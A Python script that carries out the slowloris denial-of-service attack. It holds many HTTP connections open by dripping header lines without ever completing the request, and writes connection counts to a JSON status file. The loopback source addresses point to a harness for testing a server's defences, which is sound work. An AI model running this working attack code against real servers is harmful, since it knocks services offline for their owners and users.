#!/usr/bin/env python3
"""slowloris.py - hold N HTTP connections open, each sending its request head
one header line at a time and never finishing it (the "slowloris" attack).

usage: slowloris.py HOST PORT N SOURCE_ADDR DRIP_SECONDS DURATION STATUS_FILE

Connections come from SOURCE_ADDR (any 127.x.y.z on Linux loopback). Every
DRIP_SECONDS each open connection gets one more header line. STATUS_FILE is
rewritten after every round as JSON: {"opened", "alive", "closed_by_server",
"refused", "round"}; "ready" is true once every connection was attempted.
Ends after DURATION seconds, or when the server closed every connection.
"""
import json
import os
import socket
import sys
import time


def write_status(path, status):
    tmp = path + ".tmp"
    with open(tmp, "w") as f:
        json.dump(status, f)
    os.replace(tmp, path)


def main():
    host, port, n, src, drip, duration, status_file = sys.argv[1:8]
    port, n, drip, duration = int(port), int(n), float(drip), float(duration)
    socks, refused = [], 0
    for _ in range(n):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind((src, 0))
            s.settimeout(10)
            s.connect((host, port))
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            s.setblocking(False)
            socks.append(s)
        except OSError:
            refused += 1
            s.close()
    closed = 0
    start = time.monotonic()
    rnd = 0
    while True:
        rnd += 1
        alive = []
        for s in socks:
            gone = False
            try:
                data = s.recv(4096)
                gone = data == b""  # EOF: the server closed it
            except BlockingIOError:
                pass
            except OSError:
                gone = True
            if not gone:
                try:
                    s.send(b"X-Drip-%d: %d\r\n" % (rnd, rnd))
                except BlockingIOError:
                    pass
                except OSError:
                    gone = True
            if gone:
                closed += 1
                s.close()
            else:
                alive.append(s)
        socks = alive
        write_status(status_file, {"ready": True, "opened": n - refused, "refused": refused,
                                   "alive": len(socks), "closed_by_server": closed,
                                   "round": rnd})
        if not socks or time.monotonic() - start > duration:
            break
        time.sleep(drip)
    for s in socks:
        s.close()


if __name__ == "__main__":
    main()
